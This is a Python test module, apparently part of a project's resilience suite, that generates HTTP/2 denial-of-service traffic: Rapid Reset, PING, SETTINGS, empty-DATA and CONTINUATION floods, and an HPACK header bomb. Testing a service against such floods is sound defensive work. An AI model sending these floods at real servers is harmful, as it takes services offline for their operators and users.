"""Frames of HTTP/2 that are cheap to send and cost the other side an answer or a stream."""

import struct

from hpack import Encoder

from tests.parts.attackers.attack import Attack
from tests.parts.attackers.http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Fields,
    fields,
    frame,
    raw_http2,
)

BURST_FRAMES = 1000
BURSTS = 20
LISTEN_SECONDS = 0.02


class _Flood(Attack):
    hands = 2
    every_seconds = 0.5

    def burst(self, number: int) -> bytes:
        """The frames of one burst; `number` counts a connection's bursts."""
        raise NotImplementedError

    async def turn(self, number: int) -> None:
        async with raw_http2(self.target, self.counts) as wire:
            for burst in range(BURSTS):
                await wire.send(self.burst(burst))
                self.counts["frames"] += BURST_FRAMES
                if await wire.drained(LISTEN_SECONDS):
                    self.counts["sent away"] += 1
                    return


class RapidReset(_Flood):
    """Calls without a key that are cancelled as soon as they are made."""

    def more(self) -> Fields:
        return ()

    def burst(self, number: int) -> bytes:
        pairs = BURST_FRAMES // 2
        first = 1 + 2 * pairs * number
        block = Encoder().encode(fields(self.target, "GET", "/api/sdk/v1/records/exports", self.more()))
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(first, first + 2 * pairs, 2)
        )


class RapidResetWithAKey(RapidReset):
    def more(self) -> Fields:
        return [self.target.authorization]


class PingFlood(_Flood):
    def burst(self, number: int) -> bytes:
        return frame(PING, 0, 0, bytes(8)) * BURST_FRAMES


class SettingsFlood(_Flood):
    def burst(self, number: int) -> bytes:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * BURST_FRAMES


class EmptyDataFlood(_Flood):
    """One stream of empty pieces that never ends."""

    def burst(self, number: int) -> bytes:
        block = Encoder().encode(
            [*fields(self.target, "POST", "/api/sdk/v1/signals"), ("content-type", "application/json")]
        )
        opening = frame(HEADERS, END_HEADERS, 1, block) if number == 0 else b""
        return opening + frame(DATA, 0, 1) * BURST_FRAMES


class ContinuationFlood(_Flood):
    """A block of headers that never ends."""

    def burst(self, number: int) -> bytes:
        block = Encoder().encode(fields(self.target, "GET", "/healthz"))
        opening = frame(HEADERS, END_STREAM, 1, block) if number == 0 else b""
        return opening + frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y") * BURST_FRAMES


class HeaderBomb(_Flood):
    """Header blocks that name one entry of 4,000 bytes in the table thousands of times."""

    def burst(self, number: int) -> bytes:
        encoder = Encoder()
        first = encoder.encode([*fields(self.target, "GET", "/healthz"), ("x-filler", "x" * 4000)])
        again = encoder.encode([*fields(self.target, "GET", "/healthz"), *[("x-filler", "x" * 4000)] * 2000])
        stream = 1 + number * 20
        opening = frame(HEADERS, END_HEADERS | END_STREAM, stream, first) if number == 0 else b""
        return opening + b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * each, again) for each in range(1, 10)
        )
